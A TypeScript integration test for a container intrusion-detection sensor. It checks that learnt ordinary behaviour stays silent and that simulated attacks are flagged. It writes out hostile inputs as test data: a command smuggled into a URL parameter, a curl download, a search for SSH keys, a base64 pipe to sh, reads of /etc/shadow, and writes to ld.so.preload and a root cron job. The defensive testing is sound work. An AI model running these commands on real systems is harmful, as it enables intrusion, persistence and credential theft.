import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { hasPrograms } from '../daemons.ts';
import { noSensor } from './testing/sensor.ts';
import { Town } from './testing/town.ts';
import { missingPackages } from './testing/town-images.ts';
import { ordinaryHour } from './testing/town-life.ts';
import { type ToldDetection, Watching } from './testing/watching.ts';

/**
 * Real servers in real containers, learnt from for a while; then their ordinary life is silent, and attacks in it are seen.
 * `CAISSON_ORDINARY_MINUTES` makes both times longer.
 */

const minutes = Number(process.env['CAISSON_ORDINARY_MINUTES'] ?? 0);
const ms = 300_000 + 3 * minutes * 60_000;
const reason = noTown();
const state = reason === undefined ? mkdtempSync(join(tmpdir(), 'csn-ordinary-')) : '';
let town: Town | undefined;
let watching: Watching | undefined;
let ordinary: { readonly detections: readonly string[]; readonly incidents: readonly unknown[] };

function noTown(): string | undefined {
  const none = noSensor();
  if (none !== undefined) return none;
  if (!hasPrograms('dockerd', 'docker', 'ip', 'gcc', 'busybox'))
    return 'needs Docker, gcc, busybox';
  const missing = missingPackages();
  return missing.length === 0 ? undefined : `needs ${missing.join(' ')}`;
}

/** Shell text that the town's own service runs for whoever asks in the right way; again where a worker was just being replaced. */
function injected(text: string): (at: Town) => Promise<void> {
  const path = `/api/convert?size=${encodeURIComponent(`1; ${text}`)}`;
  return async (at) => {
    for (let tries = 0; tries < 5; tries += 1) if ((await at.ask(path)).status === 200) return;
  };
}

function inside(service: string, ...command: readonly string[]): (at: Town) => Promise<unknown> {
  return async (at) => await at.tryExec(service, ...command);
}

/** What an intruder does, where, and the rule that has to name it; a part of its name. */
const intrusions: readonly (readonly [string, string, string, (at: Town) => Promise<unknown>])[] = [
  ['a command in a parameter', 'api', 'profile/exec', injected('id')],
  ['looking around', 'api', 'profile/lineage', injected('uname -a')],
  ['a download', 'api', 'Download tool', injected('curl -s http://10.1.2.3:81/x -m 1')],
  ['a reverse shell', 'api', 'became a network connection', injected('emulate reverse-shell')],
  ['a program in memory', 'api', 'from memory', injected('emulate memfd-exec')],
  ['a program brought along', 'api', 'image does not have', injected('emulate drift-exec')],
  ['a disguise', 'api', 'kernel thread', injected('emulate disguise')],
  ['the metadata service', 'api', 'Metadata service', injected('emulate metadata')],
  ['a search for keys', 'api', 'Search for keys', injected('find / -maxdepth 2 -name id_rsa')],
  ['decoded text', 'api', 'Decoded text', injected('echo dHJ1ZQ== | base64 -d | sh')],
  [
    'a program from the database',
    'db',
    'profile/exec',
    inside(
      'db',
      'psql',
      '-U',
      'postgres',
      '-c',
      "COPY article TO PROGRAM 'cat > /dev/null'",
      'shop',
    ),
  ],
  ['password hashes', 'web', 'Password hashes', inside('web', 'emulate', 'open', '/etc/shadow')],
  [
    'a program replaced',
    'web',
    'Program directory',
    inside('web', 'emulate', 'write', '/usr/bin/ls'),
  ],
  [
    'a library for all',
    'cache',
    'every program loads',
    inside('cache', 'emulate', 'write', '/etc/ld.so.preload'),
  ],
  [
    'a scheduled job',
    'db',
    'Scheduled job',
    inside('db', 'emulate', 'write', '/var/spool/cron/root'),
  ],
  [
    'a mining pool',
    'cache',
    'Crypto miner',
    inside('cache', 'sh', '-c', ': stratum+tcp://pool.test:3333'),
  ],
  ['many ports', 'cache', 'Many ports', inside('cache', 'emulate', 'port-scan')],
  [
    'a shell by hand',
    'db',
    'profile/exec',
    inside('db', 'sh', '-c', 'cat /etc/passwd | head -n 1'),
  ],
  [
    'a build that does more',
    'build',
    'profile/exec',
    (at) => at.job('build', 'build', 'sh', '-c', 'make --version; id; sleep 2'),
  ],
];

beforeAll(async () => {
  if (reason !== undefined) return;
  town = await Town.build();
  await town.start();
  await using learning = watch(town);
  await learning.ready;
  await ordinaryHour(town, { rounds: 6, minutes, seed: 1 });
  report('learning', learning, town);
  await learning.stop();
  for (const name of profileNames())
    caisson('profile', 'promote', name, '--to', 'detecting', '--yes');
  watching = watch(town);
  await watching.ready;
  await ordinaryHour(town, { rounds: 1, minutes, seed: 77 });
  await quietly();
  report('ordinary', watching, town);
  ordinary = {
    detections: of(watching, town).map(line),
    incidents: watching.incidents.filter(({ container }) => isOurs(container)),
  };
}, ms);

afterAll(async () => {
  await watching?.stop();
  await town?.[Symbol.asyncDispose]();
  if (state !== '') rmSync(state, { recursive: true, force: true });
}, 60_000);

test.skipIf(reason !== undefined)('an ordinary hour is silent after learning', () => {
  // A life that is compressed to two minutes shows rare behaviour (a health check, a job's new address) too seldom to be learnt for
  // certain: single notices of profiles may be left, never an incident and never a rule.
  const { detections, incidents } = ordinary;
  const byRules = detections.filter((text) => !text.includes(' profile/'));
  expect({ byRules, incidents }).toEqual({ byRules: [], incidents: [] });
  expect(detections.length).toBeLessThanOrEqual(6);
});

test.skipIf(reason !== undefined).for(intrusions)(
  '%s in %s is seen as %s',
  { timeout: 60_000 },
  async ([, service, rule, intrude]) => {
    const [at, told] = [here(town), here(watching)];
    const before = told.detections.length;

    await intrude(at);

    await expect
      .poll(() => of(told, at, before).map(line), { timeout: 25_000 })
      .toContainEqual(expect.stringMatching(new RegExp(`^shop-${service}.*${rule}`)));
  },
);

function here<T>(one: T | undefined): T {
  if (one === undefined) throw new Error('the town was not built');
  return one;
}

function watch(at: Town): Watching {
  const words = ['--learn', '--window', '1s', '--no-host', '--repeats', '--state', state];
  return new Watching(words, at.environment);
}

/** What is told of the containers of the town, and of no others on this machine. */
function of(told: Watching, at: Town, from = 0): readonly ToldDetection[] {
  return told.detections.slice(from).filter(({ container }) => at.ids.has(container?.id ?? ''));
}

function isOurs(container: { readonly id: string } | undefined): boolean {
  return town?.ids.has(container?.id ?? '') === true;
}

function line({ container, rule, output }: ToldDetection): string {
  return `${container?.name ?? container?.id} ${rule}: ${output.slice(0, 300)}`;
}

/** Detections wait up to half a second for what is told of containers. */
async function quietly(): Promise<void> {
  await new Promise((resolve) => {
    setTimeout(resolve, 1500);
  });
}

function caisson(...words: readonly string[]): string {
  return execFileSync(process.execPath, ['src/main.ts', ...words, '--state', state], {
    encoding: 'utf8',
    stdio: ['ignore', 'pipe', 'inherit'],
  });
}

function profileNames(): readonly string[] {
  const list = JSON.parse(caisson('profile', 'list', '-o', 'json')) as {
    readonly profiles: readonly { readonly name: string }[];
  };
  return list.profiles.map(({ name }) => name).filter((name) => name.startsWith('shop-'));
}

/** Figures for people who measure. */
function report(what: string, told: Watching, at: Town): void {
  if (minutes === 0 && process.env['CAISSON_ORDINARY_REPORT'] === undefined) return;
  const counts = new Map<string, number>();
  for (const { container, rule } of of(told, at)) {
    const name = `${container?.name?.replace(/-[0-9]+$/, '')} ${rule}`;
    counts.set(name, (counts.get(name) ?? 0) + 1);
  }
  console.info(what, told.cost, { incidents: told.incidents.length, losses: told.losses.length });
  for (const [name, count] of counts) console.info(`${count} ${name}`);
  for (const one of of(told, at)) console.info(line(one));
}
